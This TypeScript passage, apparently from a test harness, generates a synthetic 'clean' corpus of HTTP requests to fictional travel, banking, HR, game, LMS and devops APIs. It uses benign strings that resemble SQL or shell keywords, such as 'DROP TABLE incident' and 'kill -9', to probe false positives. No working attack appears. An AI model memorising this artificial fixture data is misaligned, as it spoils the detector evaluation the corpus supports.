  '<ol start="3"><li><p>Preheat the oven to 200&deg;C.</p></li><li><p>Wait until golden, then serve.</p></li></ol>',
];
const HTML_TABLES = [
  '<table style="border-collapse: collapse; width: 100%;" border="1"><colgroup><col style="width: 50%;"><col style="width: 50%;"></colgroup><thead><tr><th>Plan</th><th>Price</th></tr></thead><tbody><tr><td>Select</td><td>&euro;9/month</td></tr><tr><td>Union</td><td>&euro;19/month</td></tr></tbody></table>',
  '<figure class="table"><table><tbody><tr><td><strong>Departure</strong></td><td>07:05 LIS</td></tr><tr><td><strong>Arrival</strong></td><td>10:30 KRK</td></tr></tbody></table></figure>',
  '<!-- wp:table --><figure class="wp-block-table"><table><thead><tr><th>Week</th><th>Topic</th></tr></thead><tbody><tr><td>1</td><td>SELECT &amp; WHERE</td></tr><tr><td>2</td><td>JOIN, UNION, ORDER BY</td></tr></tbody></table></figure><!-- /wp:table -->',
];
const HTML_MEDIA = [
  '<p><img src="https://cdn.fieldnotes.media/uploads/2025/04/harbour.jpg" alt="Harbour at dawn" width="1200" height="800" srcset="https://cdn.fieldnotes.media/uploads/2025/04/harbour-600.jpg 600w, https://cdn.fieldnotes.media/uploads/2025/04/harbour.jpg 1200w" sizes="(max-width: 600px) 600px, 1200px" loading="lazy"></p>',
  '<p><iframe title="YouTube video player" src="https://www.youtube.com/embed/dQw4w9WgXcQ?si=Qx3" width="560" height="315" frameborder="0" allow="accelerometer; autoplay; clipboard-write; encrypted-media; gyroscope; picture-in-picture; web-share" allowfullscreen="allowfullscreen"></iframe></p>',
  '<figure class="media"><oembed url="https://vimeo.com/76979871"></oembed></figure>',
  '<!-- wp:image {"id":482,"sizeSlug":"large"} --><figure class="wp-block-image size-large"><img src="https://cdn.fieldnotes.media/wp-content/uploads/2025/03/team.png" alt="The team" class="wp-image-482"/><figcaption class="wp-element-caption">Our team in Kraków</figcaption></figure><!-- /wp:image -->',
  '<!-- wp:embed {"url":"https://twitter.com/fieldnotes/status/17893","type":"rich","providerNameSlug":"twitter"} --><figure class="wp-block-embed is-type-rich is-provider-twitter"><div class="wp-block-embed__wrapper">https://twitter.com/fieldnotes/status/17893</div></figure><!-- /wp:embed -->',
  '<p><a href="https://maps.google.com/?q=Rua+Augusta+Lisboa" target="_blank" rel="noopener"><img src="/media/map-thumb.png" alt="Map" style="float: right; margin: 0 0 10px 10px;" width="240"></a></p>',
  '<div class="ql-video-wrapper"><iframe class="ql-video" frameborder="0" allowfullscreen="true" src="https://www.youtube.com/embed/5qap5aO4i9A?showinfo=0"></iframe></div>',
];

// ---------------------------------------------------------------------------------------------------------
// Clean corpus
// ---------------------------------------------------------------------------------------------------------

const clean: Draft[] = [];

function emit(count: number, templates: ReadonlyArray<() => Draft>): void {
  for (let i = 0; i < count; i++) clean.push(at(templates, i)());
}

function id(prefix = ''): string {
  return `${prefix}${int(1000, 999999)}`;
}

function html(): string {
  const blocks: string[] = [];
  const n = int(2, 6);
  for (let i = 0; i < n; i++) {
    const r = rnd();
    blocks.push(r < 0.6 ? pick(HTML_PARAS) : r < 0.8 ? pick(HTML_TABLES) : pick(HTML_MEDIA));
  }
  return blocks.join(pick(['', '\n', '\n\n']));
}

function gutenberg(): string {
  const p = pick(PROSE).replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;');
  return `<!-- wp:heading --><h2 class="wp-block-heading">${pick(['Editor’s note', 'What’s new', 'Behind the scenes', 'Q&amp;A'])}</h2><!-- /wp:heading -->\n\n<!-- wp:paragraph --><p>${p}</p><!-- /wp:paragraph -->\n\n${pick(HTML_MEDIA)}`;
}

// rest-read
emit(46, [
  () =>
    getReq(
      'rest-read',
      H.travel,
      `/v1/hotels/search?${qs([
        ['q', pick(SEARCH_TERMS)],
        ['city', pick(CITIES)],
        ['checkin', isoDate()],
        ['nights', String(int(1, 9))],
        ['guests', String(int(1, 4))],
      ])}`,
      client('browser'),
    ),
  () =>
    getReq(
      'rest-read',
      H.travel,
      `/v1/flights/search?${qs([
        ['from', pick(AIRPORTS)],
        ['to', pick(AIRPORTS)],
        ['date', isoDate()],
        ['cabin', pick(['economy', 'premium_economy', 'business'])],
        ['adults', String(int(1, 3))],
        ['sort', pick(['price', '-departure', 'duration'])],
      ])}`,
      client('app'),
    ),
  () =>
    getReq(
      'rest-read',
      H.hr,
      `/api/v2/candidates?${qs(
        [
          ['search', pick(SEARCH_TERMS)],
          ['stage', pick(['screen', 'onsite', 'offer'])],
          ['page', String(int(1, 12))],
          ['per_page', '25'],
          ['sort', '-updated_at'],
        ],
        pick<'uri' | 'form'>(['uri', 'form']),
      )}`,
      client('browser'),
    ),
  () =>
    getReq(
      'rest-read',
      H.hr,
      `/api/v2/jobs?${qs([
        [
          'q',
          pick([
            'data engineer (m/w/d)',
            'DBA – Oracle/PostgreSQL',
            'exec assistant',
            'script writer',
            'Ingeniero/a de datos',
          ]),
        ],
        ['location', pick(CITIES)],
        ['remote', 'true'],
      ])}`,
      client('browser', 'anon', 'none'),
    ),
  () =>
    getReq(
      'rest-read',
      H.bank,
      `/api/accounts/${uuid()}/transactions?${qs([
        ['from', `2025-${pad(int(1, 6))}-${pad(int(1, 28))}`],
        ['to', `2025-${pad(int(7, 12))}-${pad(int(1, 28))}`],
        ['q', pick(['rent', 'Select Comfort', "O'Reilly books", 'union fees', 'Café Łódź', 'AMZN Mktp'])],
        ['limit', '50'],
        ['cursor', b64url(JSON.stringify({ after: id('tx_') }))],
      ])}`,
      client('app'),
    ),
  () =>
    getReq(
      'rest-read',
      H.logistics,
      `/v3/parcels/track?${qs([
        ['ids', `PP-${id()}-XZ,PP-${id()}-AB`],
        ['lang', pick(['en', 'fr', 'ja', 'ar'])],
      ])}`,
      client('browser', 'anon', 'none'),
    ),
  () =>
    getReq(
      'rest-read',
      H.logistics,
      `/v3/shipments?${qs([
        ['status[]', 'in_transit'],
        ['status[]', 'customs_hold'],
        ['updated_since', isoTime()],
        ['fields', 'id,status,eta,consignee.name'],
      ])}`,
      client('server', 'svc', 'key'),
    ),
  () =>
    getReq(
      'rest-read',
      H.game,
      `/api/guilds/${id()}/chat?${qs([
        ['before', id('msg_')],
        ['limit', '100'],
      ])}`,
      client('app'),
    ),
  () =>
    getReq(
      'rest-read',
      H.game,
      `/api/leaderboard?${qs([
        ['season', '14'],
        ['region', pick(['eu', 'na', 'kr'])],
        ['class', pick(['rogue', 'cleric', 'warlock', 'bard', 'necromancer'])],
        ['order', 'desc'],
        ['page', String(int(1, 40))],
      ])}`,
      client('app', 'anon', 'none'),
    ),
  () =>
    getReq(
      'rest-read',
      H.analytics,
      `/api/dashboards?${qs([
        [
          'search',
          pick([
            'union vs join perf',
            'weekly signups',
            'select customers',
            'drop-off funnel',
            'sleep survey',
          ]),
        ],
        ['owner', 'me'],
        ['sort', 'name'],
      ])}`,
      client('browser'),
    ),
  () =>
    getReq(
      'rest-read',
      H.devops,
      `/api/incidents?${qs([
        [
          'q',
          pick([
            'kill -9',
            'OOMKilled',
            'DROP TABLE incident',
            'curl timeout',
            'ping loss eu-west-1',
            'cat /var/log',
          ]),
        ],
        ['severity', pick(['sev1', 'sev2'])],
        ['status', 'resolved'],
        ['page', String(int(1, 5))],
      ])}`,
      client('browser'),
    ),
  () =>
    getReq(
      'rest-read',
      H.lms,
      `/api/courses/${int(100, 999)}/forum/posts?${qs([
        [
          'q',
          pick([
            'segfault',
            'select where null',
            'os.system not working',
            'how to use <iframe>',
            'union all duplicates',
            "can't import pandas",
          ]),
        ],
        ['tag', pick(['python', 'sql', 'c', 'web'])],
        ['sort', 'votes'],
      ])}`,
      client('browser'),
    ),
  () =>
    getReq(
      'rest-read',
      H.cms,
      `/wp-json/wp/v2/posts?${qs([
        ['search', pick(SEARCH_TERMS)],
        ['per_page', pick(['10', '20', '50'])],
        ['page', String(int(1, 6))],
        ['_embed', '1'],
        ['orderby', 'date'],
        ['order', 'desc'],
      ])}`,
      client('browser', 'anon', 'none'),
    ),
  () =>
    getReq(
      'rest-read',
      H.issues,
      `/repos/acme/api/issues?${qs([
        ['state', 'open'],
        ['labels', pick(['bug,sql', 'security', 'good first issue'])],
        ['q', pick(['is:open "order by" in:title', 'drop table migration', 'union type error'])],
        ['per_page', '30'],
      ])}`,
      client('cli', 'dev', 'key'),
    ),
]);

// rest-write
const restWrite: Array<() => Draft> = [
  () =>
    jsonReq(
      'rest-write',
      'POST',
      H.travel,
      '/v1/bookings',
      {
        offerId: `off_${chars(20)}`,
        travellers: [
          {
            firstName: pick(NAMES).split(' ')[0],
            lastName: pick(NAMES).split(' ').slice(-1)[0],
            dateOfBirth: isoDate(),
            passport: {
              number: chars(9, 'ABCDEFGHJKLMNPQRSTUVWXYZ0123456789'),
              country: pick(['IE', 'PT', 'JP', 'AE']),
            },
          },
        ],
        contact: { email: `${chars(7)}@example.com`, phone: `+351 9${int(10000000, 99999999)}` },
        specialRequests: pick([...PROSE, 'Window seat please', 'Vegetarian meal (no eggs)', '']),
      },
      client('app'),
    ),
  () =>
    jsonReq(
      'rest-write',
      'POST',
      H.bank,
      '/api/transfers',
      {
        from: uuid(),
        to: { iban: 'DE89370400440532013000', name: pick(NAMES) },
        amount: { value: `${int(1, 9000)}.${pad(int(0, 99))}`, currency: pick(['EUR', 'GBP', 'USD']) },
        reference: pick([
          'Rent March – Apt 3 & parking',
          'Invoice #2025-041',
          "O'Neill birthday 🎂",
          'Select Comfort order A-1192',
          'Union dues Q2',
          'refund: drop-off fee',
        ]),
        scheduledFor: isoDate(),
      },
      client('app'),
      'application/json',
      { 'idempotency-key': uuid() },
    ),
  () =>
    jsonReq(
      'rest-write',
      'POST',
      H.bank,
      `/api/accounts/${uuid()}/payees`,
      {
        name: pick(NAMES),
        iban: `GB${int(10, 99)}NWBK${int(100000, 999999)}${int(10000000, 99999999)}`,
        nickname: pick(['Mum & Dad', 'Landlord (new)', 'Kraków flat', 'Gym']),
      },
      client('browser'),
    ),
  () =>
    jsonReq(
      'rest-write',
      'POST',
      H.logistics,
      '/v3/shipments',
      {
        reference: `ORD-${id()}`,
        consignee: {
          name: pick(NAMES),
          address: {
            line1: pick([
              "12 O'Connell St",
              'Rua Augusta 221, 3º Esq.',
              '3-14-1 Shibuya',
              'Al Wasl Rd, Villa 7',
            ]),
            city: pick(CITIES),
            postcode: String(int(10000, 99999)),
          },
        },
        parcels: [
          {
            weightKg: int(1, 30),
            dims: [int(10, 60), int(10, 60), int(5, 40)],
            contents: pick(['books', 'cat food', 'ping pong table (disassembled)', 'union jack flags']),
          },
        ],
        instructions: pick([
          'Leave with neighbour at No. 7 if not home',
          'Do not leave in the rain; wait for signature',
          'Call before delivery — dog!',
          '',
        ]),
      },
      client('server', 'svc', 'key'),
    ),
  () =>
    jsonReq(
      'rest-write',
      'POST',
      H.logistics,
      `/v3/shipments/PP-${id()}/events`,
      {
        type: pick(['exception', 'delivered', 'delay']),
        note: pick(TICKETS),
        at: isoTime(),
        geo: { lat: 38.71 + rnd(), lng: -9.14 + rnd() },
      },
      client('app'),
    ),
  () =>
    jsonReq(
      'rest-write',
      'PUT',
      H.hr,
      `/api/v2/candidates/${id()}`,
      {
        name: pick(NAMES),
        email: `${chars(6)}@mail.example`,
        headline: pick([
          'Senior DBA – Oracle, PostgreSQL, MySQL',
          'Exec Assistant to the CEO',
          'Full-stack dev (Node/Go)',
          'Data engineer, SQL & Python',
        ]),
        cv: {
          summary: pick(HR_NOTES),
          skills: ['SQL', 'Bash', 'Python', pick(['Kubernetes', 'Excel', 'Power BI'])],
          languages: [
            { code: 'en', level: 'C2' },
            { code: pick(['pt', 'ja', 'ar']), level: 'native' },
          ],
        },
      },
      client('browser'),
    ),
  () =>
    jsonReq(
      'rest-write',
      'POST',
      H.hr,
      `/api/v2/interviews/${id()}/notes`,
      {
        author: pick(NAMES),
        rating: int(1, 4),
        body: `${pick(HR_NOTES)}\n\n${pick(HR_NOTES)}`,
        private: true,
      },
      client('browser'),
    ),
  () =>
    jsonReq(
      'rest-write',
      'POST',
      H.game,
      `/api/guilds/${id()}/chat`,
      { channel: pick(['general', 'raid', 'trade']), text: pick(CHAT), clientNonce: hex(16) },
      client('app'),
    ),
  () =>
    jsonReq(
      'rest-write',
      'PATCH',
      H.game,
      `/api/players/${id()}`,
      {
        displayName: pick([
          'xX_Slayer_Xx',
          'Kira🌙',
          'D’Artagnan',
          'ドラゴン',
          'drop_table_bob',
          'sleepy.cat',
        ]),
        bio: pick(CHAT),
        settings: { chatFilter: 'moderate', language: pick(['en', 'ko', 'pt-BR']) },
      },
      client('app'),
    ),
  () =>
    jsonReq(
      'rest-write',
      'DELETE',
      H.game,
      `/api/guilds/${id()}/members/${id()}`,
      {
        reason: pick([
          'inactive 60 days',
          'asked to leave',
          'kicked: spamming "kill kill kill" in chat',
          'alt account',
          '',
        ]),
        notify: rnd() < 0.5,
      },
      client('app'),
    ),
  () =>
    jsonReq(
      'rest-write',
      'POST',
      H.lms,
      `/api/courses/${int(100, 999)}/assignments/${int(1, 40)}/submissions`,
      {
        language: pick(['python', 'c', 'sql', 'javascript', 'java', 'bash']),
        code: pick(STUDENT_CODE),
        comment: pick(['First attempt', 'Fixed the off-by-one', 'Not sure about the HAVING part', '']),
      },
      client('browser'),
    ),
  () =>
    jsonReq(
      'rest-write',
      'POST',
      H.lms,
      `/api/courses/${int(100, 999)}/assignments/${int(1, 40)}/submissions`,
      {
        files: [
          { path: 'main.py', content: pick(STUDENT_CODE) },
          { path: 'README.md', content: '# Lab 3\nRun with `python main.py < input.txt`.' },
        ],
        note: 'Multi-file submission',
      },
      client('browser'),
    ),
  () =>
    jsonReq(
      'rest-write',
      'POST',
      H.analytics,
      '/api/queries',
      {
        name: pick([
          'Weekly signups',
          'Revenue by country',
          'Top 3 per guild',
          'Sleep survey buckets',
          'Campaign union',
        ]),
        sql: pick(SAVED_SQL),
        dataSourceId: int(1, 9),
        schedule: pick([null, { every: '1d', at: '06:00' }]),
      },
      client('browser'),
    ),
  () =>
    jsonReq(
      'rest-write',
      'PUT',
      H.analytics,
      `/api/dashboards/${id()}`,
      {
        title: pick(['Select customers – EMEA', 'Drop-off funnel', 'Union of sources (beta)', 'Exec KPIs']),
        widgets: [
          { type: 'chart', queryId: int(1, 500), options: { x: 'week', y: 'signups', orderBy: 'week' } },
          { type: 'text', markdown: pick(PROSE) },
        ],
        filters: [{ field: 'country', op: 'in', values: ['PT', 'IE', 'JP'] }],
      },
      client('browser'),
    ),
  () =>
    jsonReq(
      'rest-write',
      'POST',
      H.devops,
      '/api/incidents',
      {
        title: pick([
          'API 5xx spike after deploy',
          'DB failover — replica lag',
          'Cron killed by OOM',
          'Ping loss to eu-west-1',
        ]),
        severity: pick(['sev1', 'sev2', 'sev3']),
        commander: pick(NAMES),
        services: ['api', 'billing'],
        summary: pick(PROSE),
      },
      client('browser'),
    ),
  () =>
    jsonReq(
      'rest-write',
      'POST',
      H.devops,
      `/api/incidents/${id()}/timeline`,
      {
        at: isoTime(),
        kind: 'command',
        text: pick([
          'ran `kubectl rollout undo deploy/api -n prod`',
          'kill -9 on stuck worker pid 4412',
          'psql: `SELECT pid, state FROM pg_stat_activity WHERE wait_event IS NOT NULL;`',
          'curl -I https://api.internal/health → 503',
          'sleep 30 && retry; still failing',
        ]),
      },
      client('cli', 'oncall', 'key'),
    ),
  () =>
    jsonReq(
      'rest-write',
      'POST',
      H.devops,
      '/api/postmortems',
      {
        incidentId: id(),
        title: 'Postmortem: billing outage',
        sections: {
          summary: pick(MINUTES),
          timeline: pick(CODE_COMMENTS),
          rootCause: 'A migration ran `DROP INDEX` on the payments table during peak hours.',
          actionItems: ['Add lock_timeout to migrations', 'Alert when replica lag > 30s'],
        },
      },
      client('browser'),
    ),
  () =>
    jsonReq(
      'rest-write',
      'POST',
      H.travel,
      `/v1/reviews`,
      {
        hotelId: id(),
        rating: int(1, 5),
        title: pick(['Lovely!', 'Meh', 'Would select again', '静かで良い']),
        text: pick([...REVIEWS, ...PROSE_INTL]),
        stayedOn: isoDate(),
      },
      client('browser'),
    ),
  () =>
    jsonReq(
      'rest-write',
      'POST',
      H.bank,
      '/api/support/tickets',
      {
        subject: pick(['Double charge', 'IBAN update', 'Card blocked']),
        message: pick([...TICKETS, ...PROSE_INTL]),
        channel: 'app',
      },
      client('app'),
    ),
];
emit(70, restWrite);

// jsonapi
const JSONAPI = 'application/vnd.api+json';
emit(26, [
  () =>
    jsonReq(
      'jsonapi',
      'POST',
      H.cms,
      '/api/articles',
      {
        data: {
          type: 'articles',
          attributes: {
            title: pick([
              'Select committee report published',
              'Where to sleep in Kyoto',
              'Union Square on a budget',
              'How we drop legacy APIs',
            ]),
            body: pick(PROSE),
            tags: ['news', 'travel'],
          },
          relationships: { author: { data: { type: 'people', id: String(int(1, 99)) } } },
        },
      },
      client('browser'),
      JSONAPI,
      { accept: JSONAPI },
    ),
  () =>
    jsonReq(
      'jsonapi',
      'PATCH',
      H.cms,
      `/api/articles/${int(1, 900)}`,
      {
        data: {
          type: 'articles',
          id: String(int(1, 900)),
          attributes: {
            title: pick([
              'Updated: exec order changes',
              'The table of contents, revised',
              'Wait times at Lisbon airport',
            ]),
            'published-at': isoTime(),
          },
        },
      },
      client('browser'),
      JSONAPI,
      { accept: JSONAPI },
    ),
  () =>
    jsonReq(
      'jsonapi',
      'POST',
      H.hr,
      '/api/v3/applications',
      {
        data: {
          type: 'applications',
          attributes: {
            'cover-letter': pick(HR_NOTES) + '\n\n' + pick(PROSE),
            source: pick(['linkedin', 'referral', 'career site']),
          },
          relationships: {
            job: { data: { type: 'jobs', id: String(int(1, 300)) } },
            candidate: { data: { type: 'candidates', id: uuid() } },
          },
        },
      },
      client('browser'),
      JSONAPI,
      { accept: JSONAPI },
    ),
  () =>
    jsonReq(
      'jsonapi',
      'POST',
      H.issues,
      `/api/comments`,
      {
        data: {
          type: 'comments',
          attributes: { body: pick(CODE_COMMENTS) },
          relationships: { issue: { data: { type: 'issues', id: String(int(1, 5000)) } } },
        },
      },
      client('browser'),
      JSONAPI,
      { accept: JSONAPI },
    ),
  () =>
    jsonReq(
      'jsonapi',
      'DELETE',
      H.cms,
      `/api/articles/${int(1, 900)}/relationships/tags`,
      {
        data: [
          { type: 'tags', id: String(int(1, 50)) },
          { type: 'tags', id: String(int(1, 50)) },
        ],
      },
      client('browser'),
      JSONAPI,
      { accept: JSONAPI },
    ),
  () =>
    getReq(
      'jsonapi',
      H.cms,
      `/api/articles?${qs([
        ['filter[status]', 'published'],
        ['filter[title]', pick(SEARCH_TERMS)],
        ['include', 'author,comments.author'],
        ['fields[articles]', 'title,body,published-at'],
        ['fields[people]', 'name'],
        ['sort', '-published-at'],
        ['page[number]', String(int(1, 9))],
        ['page[size]', '20'],
      ])}`,
      client('browser'),
      { accept: JSONAPI },
    ),
  () =>
    jsonReq(
      'jsonapi',
      'PATCH',
      H.logistics,
      `/jsonapi/parcels/${uuid()}`,
      {
        data: {
          type: 'parcels',
          id: uuid(),
          attributes: {
            'delivery-note': pick(TICKETS),
            'safe-place': pick(['porch', 'garage', 'with neighbour', 'none — wait for me']),
          },
        },
      },
      client('app'),
      JSONAPI,
      { accept: JSONAPI },
    ),
]);

// graphql
const GQL_QUERIES = [
  'query SearchHotels($q: String!, $first: Int = 20, $after: String) {\n  hotels(search: $q, first: $first, after: $after) {\n    edges { node { id name city rating priceFrom { amount currency } } }\n    pageInfo { hasNextPage endCursor }\n  }\n}',
  'query Guild($id: ID!) {\n  guild(id: $id) {\n    name\n    members(orderBy: { field: RANK, direction: DESC }) { nodes { id displayName rank } }\n    ...GuildChat\n  }\n}\nfragment GuildChat on Guild { chat(last: 50) { id text author { displayName } } }',
  'query Me { viewer { id name email accounts { id iban balance { amount currency } } } }',
  'query Incident($id: ID!) { incident(id: $id) { title severity timeline(first: 100) { at kind text } } }',
];
emit(42, [
  () =>
    jsonReq(
      'graphql',
      'POST',
      H.travel,
      '/graphql',
      {
        operationName: 'SearchHotels',
        query: at(GQL_QUERIES, 0),
        variables: { q: pick(SEARCH_TERMS), first: 20, after: null },
      },
      client('browser'),
    ),
  () =>
    jsonReq(
      'graphql',
      'POST',
      H.game,
      '/graphql',
      { operationName: 'Guild', query: at(GQL_QUERIES, 1), variables: { id: `G_${chars(10)}` } },
      client('app'),
    ),
  () =>
    jsonReq(
      'graphql',
      'POST',
      H.game,
      '/graphql',
      {
        operationName: 'PostMessage',
        query:
          'mutation PostMessage($input: PostMessageInput!) {\n  postMessage(input: $input) { message { id text createdAt } errors { field message } }\n}',
        variables: { input: { guildId: `G_${chars(10)}`, channel: 'raid', text: pick(CHAT) } },
      },
      client('app'),
    ),
  () =>
    jsonReq(
      'graphql',
      'POST',
      H.lms,
      '/graphql',
      {
        operationName: 'SubmitAssignment',
        query:
          'mutation SubmitAssignment($input: SubmissionInput!) { submitAssignment(input: $input) { id status score feedback } }',
        variables: {
          input: {
            assignmentId: String(int(1, 400)),
            language: pick(['PYTHON', 'C', 'SQL', 'JAVA', 'BASH']),
            code: pick(STUDENT_CODE),
          },
        },
      },
      client('browser'),
    ),
  () =>
    jsonReq(
      'graphql',
      'POST',
      H.lms,
      '/graphql',
      {
        operationName: 'AskQuestion',
        query:
          'mutation AskQuestion($courseId: ID!, $title: String!, $body: String!) { askQuestion(courseId: $courseId, title: $title, body: $body) { id url } }',
        variables: {
          courseId: String(int(100, 999)),
          title: pick([
            'Why does my UNION return duplicates?',
            'os.system("clear") does nothing on Windows',
            'Segfault when freeing twice?',
            'Where do I put the <script> tag?',
          ]),
          body: pick(CODE_COMMENTS),
        },
      },
      client('browser'),
    ),
  () =>
    build(
      'graphql',
      'POST',
      H.bank,
      '/graphql',
      pick([
        at(GQL_QUERIES, 2),
        `query Transactions {\n  account(id: "${uuid()}") {\n    transactions(first: ${int(10, 100)}, search: ${JSON.stringify(pick(['rent', 'Select Comfort', "O'Reilly", 'union dues', 'Café Łódź']))}) {\n      edges { node { id amount description bookedAt } }\n    }\n  }\n}`,
        `mutation {\n  freezeCard(cardId: "card_${chars(12)}", reason: ${JSON.stringify(pick(['lost at the airport', 'stolen — wallet taken from my bag', 'suspicious payment from "SELECT STORE LTD"']))}) { id status }\n}`,
        `{ payees(first: ${int(5, 50)}, orderBy: NAME_ASC) { nodes { id name iban nickname } } }`,
      ]),
      'application/graphql',
      client('app'),
    ),
  () =>
    jsonReq(
      'graphql',
      'POST',
      H.devops,
      '/graphql',
      { query: at(GQL_QUERIES, 3), variables: { id: `INC-${int(100, 9999)}` } },
      client('browser'),
    ),
  () =>
    jsonReq(
      'graphql',
      'POST',
      H.analytics,
      '/graphql',
      {
        operationName: 'SaveQuery',
        query:
          'mutation SaveQuery($name: String!, $sql: String!, $tags: [String!]) { saveQuery(name: $name, sql: $sql, tags: $tags) { id } }',
        variables: {
          name: `${pick(['Top 3 per guild', 'Revenue by country', 'Signups (90d)', 'Sleep buckets'])} ${pick(['', 'v2', '(copy)', '– EMEA'])}`.trim(),
          sql: pick(SAVED_SQL),
          tags: [pick(['finance', 'growth', 'game', 'ops']), pick(['weekly', 'daily', 'adhoc'])],
        },
      },
      client('browser'),
    ),
  () =>
    jsonReq(
      'graphql',
      'POST',
      H.hr,
      '/graphql',
      {
        operationName: 'AddNote',
        query:
          'mutation AddNote($candidateId: ID!, $note: String!) { addInterviewNote(candidateId: $candidateId, note: $note) { id createdAt } }',
        variables: { candidateId: uuid(), note: pick(HR_NOTES) },
      },
      client('browser'),
    ),
  () =>
    getReq(
      'graphql',
      H.cms,
      `/graphql?${qs([['query', '{ posts(first: ' + pick(['5', '10', '12']) + ', where: { search: "' + pick(['select committee', 'drop-in', 'sleep', 'union square', 'where to eat', 'exec pay', 'cat café']) + '" }) { nodes { title uri } } }']])}`,
      client('browser', 'anon', 'none'),
    ),
  () =>
    build(
      'graphql',
      'POST',
      H.logistics,
      '/graphql',
      `query Track {\n  parcels(ids: ["PP-${id()}-XZ"]) {\n    status\n    events(orderBy: TIME_DESC) { at description location }\n  }\n}`,
      'application/graphql',
      client('server', 'svc', 'key'),
    ),
]);

// cms-html
emit(42, [
  () =>
    jsonReq(
      'cms-html',
      'POST',
      H.cms,
      '/wp-json/wp/v2/posts',
      {
        title: pick([
          'Spring menu',
          'Where to sleep in Kyoto',
          'Select committee round-up',
          'Union Square guide',
        ]),
        content: gutenberg(),
        status: pick(['draft', 'publish']),
        categories: [int(1, 20)],
      },
      client('browser'),
    ),
  () =>
    jsonReq(
      'cms-html',
      'PUT',
      H.cms,
      `/api/pages/${int(1, 500)}`,
      { title: 'About us', body: html(), editor: 'tinymce', locale: pick(['en', 'fr', 'ja', 'ar']) },
      client('browser'),
    ),
  () =>
    jsonReq(
      'cms-html',
      'POST',
      H.cms,
      '/api/newsletters',
      {
        subject: pick(['This week: drop-in sessions', 'Exec update', 'Alert: schedule change']),
        html: `<div style="font-family: Arial, sans-serif; max-width: 600px;">${html()}<p style="font-size: 11px; color: #888;">You are receiving this because you subscribed. <a href="https://fieldnotes.media/unsubscribe?u=${hex(12)}">Unsubscribe</a></p></div>`,
      },
      client('browser'),
    ),
  () =>
    jsonReq(
      'cms-html',
      'PATCH',
      H.lms,
      `/api/courses/${int(100, 999)}/pages/${int(1, 60)}`,
      {
        body: `<h3>Week ${int(1, 12)}: SQL</h3>${pick(HTML_TABLES)}<p>Submit your <code>SELECT</code> query by Friday. Late work: &minus;10%.</p>${pick(HTML_MEDIA)}`,
        editor: 'ckeditor5',
      },
      client('browser'),
    ),
  () =>
    jsonReq(
      'cms-html',
      'POST',
      H.travel,
      '/v1/partner/hotels/descriptions',
      { hotelId: id(), lang: pick(['en', 'pt', 'ja']), descriptionHtml: html() },
      client('browser'),
    ),
  () =>
    jsonReq(
      'cms-html',
      'PUT',
      H.hr,
      `/api/v2/jobs/${int(1, 300)}`,
      {
        title: pick(['Senior DBA', 'Executive Assistant', 'Script Writer (Games)']),
        descriptionHtml: `<p><strong>About the role</strong></p><ul><li>Own our PostgreSQL fleet (SELECT, UPDATE, DELETE at scale)</li><li>On-call 1 week in 6</li></ul><p>Apply via <a href="https://talentloop.io/apply" target="_blank" rel="noopener noreferrer">our portal</a>.</p>${pick(HTML_PARAS)}`,
      },
      client('browser'),
    ),
  () =>
    jsonReq(
      'cms-html',
      'POST',
      H.game,
      '/api/announcements',
      {
        title: `Patch 14.${int(0, 9)}`,
        html: `<p class="ql-align-center"><strong><span style="color: rgb(230, 0, 0);">${pick(['Server maintenance', 'Hotfix', 'New raid: The Drowned Union'])}</span></strong></p><p>${pick(['Wait for the update, then restart the client. Kill any running launcher processes first.', 'Select your region again after the update; the old one is dropped.', 'Sleep mode on consoles may interrupt the download &mdash; keep the console awake.'])}</p>${pick(HTML_MEDIA)}${pick(['', pick(HTML_PARAS)])}`,
        pinned: rnd() < 0.5,
      },
      client('browser'),
    ),
]);

// issue-comment
emit(56, [
  () =>
    jsonReq(
      'issue-comment',
      'POST',
      H.issues,
      `/repos/acme/${pick(['api', 'web', 'infra'])}/issues/${int(1, 4000)}/comments`,
      { body: pick(CODE_COMMENTS) },
      client(pick<ClientKind>(['browser', 'cli']), 'dev', 'key'),
      'application/json',
      { accept: 'application/vnd.github+json', 'x-github-api-version': '2022-11-28' },
    ),
  () =>
    jsonReq(
      'issue-comment',
      'POST',
      H.issues,
      `/api/v4/projects/${int(1, 900)}/merge_requests/${int(1, 700)}/notes`,
      { body: pick(CODE_COMMENTS) },
      client('browser'),
    ),
  () =>
    jsonReq(
      'issue-comment',
      'POST',
      H.issues,
      `/api/v4/projects/${int(1, 900)}/merge_requests/${int(1, 700)}/discussions`,
      {
        body: pick(CODE_COMMENTS),
        position: {
          position_type: 'text',
          new_path: pick(['src/db.go', 'api/views.py', 'web/src/App.tsx']),
          new_line: int(1, 400),
          base_sha: hex(40),
          head_sha: hex(40),
          start_sha: hex(40),
        },
      },
      client('browser'),
    ),
  () =>
    jsonReq(
      'issue-comment',
      'POST',
      H.devops,
      `/api/incidents/${id()}/comments`,
      { body: `${pick(['Update:', 'Mitigated.', 'Still seeing errors.', 'FYI'])}\n\n${pick(CODE_COMMENTS)}` },
      client('browser'),
    ),
  () =>
    jsonReq(
      'issue-comment',
      'POST',
      H.lms,
      `/api/forums/${int(1, 200)}/posts`,
      {
        title: pick(['Lab 3 help', 'Why does this print None?', 'SQL HAVING vs WHERE']),
        body: `${pick(['Hi all,', 'Quick question:', 'Stuck on this for 2 hours 😩'])} ${pick(['my query', 'this snippet', 'the starter code'])} does not work:\n\n${pick(CODE_COMMENTS)}`,
        anonymous: rnd() < 0.3,
      },
      client('browser'),
    ),
  () =>
    jsonReq(
      'issue-comment',
      'PATCH',
      H.issues,
      `/repos/acme/api/issues/comments/${int(1, 99999)}`,
      { body: `${pick(CODE_COMMENTS)}\n\n_Edit: ${pick(['typo', 'added logs', 'fixed the query'])}_` },
      client('browser', 'dev', 'key'),
    ),
]);

// prose
emit(56, [
  () =>
    jsonReq(
      'prose',
      'POST',
      H.bank,
      '/api/support/tickets',
      {
        subject: pick(['Question', 'Problem with transfer', 'Feedback']),
        message: pick([...TICKETS, ...PROSE]),
      },
      client('app'),
    ),
  () =>
    jsonReq(
      'prose',
      'POST',
      H.travel,
      '/v1/chat/messages',
      { conversationId: uuid(), text: pick([...PROSE, ...PROSE_INTL]) },
      client('app'),
    ),
  () =>
    jsonReq(
      'prose',
      'POST',
      H.hr,
      `/api/v2/candidates/${id()}/feedback`,
      { stage: 'onsite', recommendation: pick(['hire', 'no_hire', 'strong_hire']), notes: pick(HR_NOTES) },
      client('browser'),
    ),
  () =>
    jsonReq(
      'prose',
      'POST',
      H.hr,
      '/api/v2/meetings/minutes',
